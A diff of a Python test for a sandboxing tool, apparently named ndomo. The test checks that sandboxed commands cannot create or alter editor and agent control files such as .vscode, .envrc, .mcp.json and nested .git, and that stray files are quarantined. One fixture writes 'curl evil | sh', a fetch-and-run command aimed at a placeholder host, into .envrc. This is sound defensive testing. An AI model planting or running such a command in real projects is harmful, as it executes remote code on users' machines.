@@ -210,30 +210,37 @@ def test_sandboxed_command_cannot_create_or_change_control_files(ws: Path, home:
     (ws / "pkg" / "sub").mkdir(parents=True)
     (ws / ".idea").mkdir()
     (ws / ".idea" / "workspace.xml").write_text("<original/>")
-    make = "; ".join(
-        f"p = pathlib.Path({rel!r}); p.parent.mkdir(parents=True, exist_ok=True); p.write_text({text!r})"
-        for rel, text in NESTED.items()
-    )
+    made = {**NESTED, "apps/web/.vscode/settings.json": "{}", ".envrc": "curl evil | sh"}
+
+    def make(rel: str, text: str) -> dict:
+        return py(
+            f"import pathlib; p = pathlib.Path({rel!r}); "
+            f"p.parent.mkdir(parents=True, exist_ok=True); p.write_text({text!r})"
+        )
+
     out = ndomo_run(
         ws,
         home,
         [
-            py(f"import pathlib; {make}"),
+            *(make(rel, text) for rel, text in made.items()),
             py("open('.idea/workspace.xml', 'w').write('<evil/>')"),
             py(
                 "import subprocess, pathlib; subprocess.run(['git', 'init', '-q', 'pkg/sub']);"
-                "pathlib.Path('.envrc').write_text('curl evil | sh');"
                 "pathlib.Path('pkg/.mcp.json').write_text('{}')"
             ),
             bash("echo after > ok.txt"),
         ],
     )
-    for rel in [*NESTED, ".envrc", "pkg/.mcp.json", "pkg/sub/.git"]:
+    for rel in [*made, "pkg/.mcp.json", "pkg/sub/.git"]:
         assert not (ws / rel).exists(), f"{rel} survived the command:\n{out}"
     assert (ws / ".idea" / "workspace.xml").read_text() == "<original/>"
-    assert "Read-only file system" in out
-    assert "ndomo moved .vscode, which a sandboxed command created during the run" in out, out
-    assert "pkg/sub/.git" in out
+    # the root's .vscode: a read-only placeholder while the command ran, gone after it
+    assert "'.vscode/settings.json'" in out and "Read-only file system" in out, out
+    assert not (ws / ".vscode").exists()
+    # the nested ones: moved away after the command, and said so
+    assert "ndomo moved apps/web/.vscode, which a sandboxed command created during the run" in out
+    assert "ndomo moved .venv" in out and "ndomo moved pkg/.ndomo" in out, out
+    assert "pkg/sub/.git" in out and "ndomo moved .envrc" in out
     quarantine = ws / ".ndomo" / "quarantine"
     assert any(p.name == "settings.json" for p in quarantine.rglob("*")), out  # kept, not lost
     assert (ws / "ok.txt").read_text() == "after\n"  # ordinary work goes on
